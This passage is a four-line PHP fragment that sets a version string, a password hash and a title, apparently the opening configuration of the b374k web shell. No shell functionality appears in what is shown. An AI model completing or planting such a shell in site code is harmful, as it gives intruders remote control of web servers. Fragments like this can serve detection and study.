<?php
$s_ver = "b374k 3.2.3";
$s_pass = "0de664ecd2be02cdd54234a0d1229b43";
$s_title = "b374k m1n1";
